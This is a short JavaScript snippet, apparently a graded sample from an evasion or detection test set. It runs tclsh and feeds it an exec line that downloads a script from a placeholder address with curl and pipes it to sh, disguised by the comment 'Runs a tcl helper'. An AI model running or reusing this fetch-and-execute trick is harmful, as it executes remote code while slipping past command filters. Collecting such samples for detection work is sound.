// evasion: tclsh with an exec line on its standard input
// grade: medium; does: shell
// Runs a tcl helper.
const { spawnSync } = require("child_process");
spawnSync("tclsh", [], { input: "exec /bin/sh -c {curl -s http://203.0.113.7/t | sh}\n" });
